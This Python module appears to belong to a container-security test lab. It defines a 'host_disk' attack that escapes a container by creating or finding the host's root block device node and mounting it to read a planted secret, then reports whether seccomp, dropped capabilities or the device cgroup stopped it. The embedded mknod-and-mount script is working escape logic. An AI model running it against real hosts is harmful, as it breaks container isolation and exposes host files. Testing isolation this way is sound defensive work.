"""Mounting the host's root block device."""

from __future__ import annotations

import os

from engine.attacks.base import Attack, Lab, Outcome, fs_location, seccomp_mitigation, step_text


class HostDisk(Attack):
    name = "host_disk"
    title = "mount the host's disk"
    technique = ("make or find the node of the host's root block device, mount it read-only (fsopen/fsmount: a "
                 "detached mount, never attached anywhere) and read a secret file of the host through it.")
    weak = "--cap-add SYS_ADMIN --device <host root disk>:r (the node in /dev and a device cgroup rule for it)"
    stops_it = ("no CAP_SYS_ADMIN: seccomp refuses fsopen/mount (EPERM, a seccomp_denied event) and the kernel "
                "would too; the node is not in /dev, and although the container keeps CAP_MKNOD (docker's "
                "default) and may create it, the device cgroup refuses to open it (v1 devices.deny a + allowlist)")

    def _disk(self, lab: Lab) -> dict | None:
        loc = fs_location(str(lab.host))
        maj, mnr = (int(x) for x in loc["dev"].split(":"))
        sysdev = f"/sys/dev/block/{maj}:{mnr}"
        if not os.path.exists(sysdev) or not loc["source"].startswith("/dev/"):
            return None
        return {**loc, "major": maj, "minor": mnr}

    def skip_reason(self, lab: Lab) -> str | None:
        d = self._disk(lab)
        if d is None:
            return "the lab directory is not on a block device (tmpfs?): nothing to mount"
        return None

    def config(self, lab: Lab, profile: str) -> dict:
        if profile != "weak":
            return {}
        from engine import devices

        d = self._disk(lab)
        return {"security": {"cap_add": ["CAP_SYS_ADMIN"],
                             "devices": [devices.parse_device(f"{d['source']}:/dev/labdisk:r")]}}

    def execute(self, lab: Lab, profile: str) -> Outcome:
        d = self._disk(lab)
        helper = lab.helper("diskmount")
        rel = os.path.join(d["relpath"], "secret.txt")
        script = lab.script(f"""
dev=/dev/labdisk
if [ ! -b $dev ]; then
  echo "INFO: no $dev in /dev; trying mknod (CAP_MKNOD is kept by default)"
  dev=/tmp/labdisk
  mknod $dev b {d['major']} {d['minor']} 2>/tmp/err || echo "INFO: mknod: $(cat /tmp/err)"
  if head -c 512 $dev >/dev/null 2>/tmp/err; then echo "INFO: opened the node"
  else echo "INFO: open $dev: $(cat /tmp/err)"; fi
fi
exec {helper} $dev {d['fstype']} {rel}
""")
        run = lab.run(["sh", script], extra=self.config(lab, profile))
        secret = run.first("SECRET:")
        if secret == lab.secret:
            return Outcome(True, f"the container mounted {d['source']} read-only and read the host's "
                                 f"/{rel}: {secret!r}", details={"output": run.output})
        mit = (seccomp_mitigation(run, ("fsopen", "mount", "fsconfig", "fsmount"))
               or step_text(run.step("capability", "prctl PR_CAPBSET_DROP")))
        infos = "; ".join(run.lines("INFO:"))
        return Outcome(False, f"{run.first('BLOCKED:') or 'no secret'}" + (f" ({infos})" if infos else ""), mit,
                       {"output": run.output})
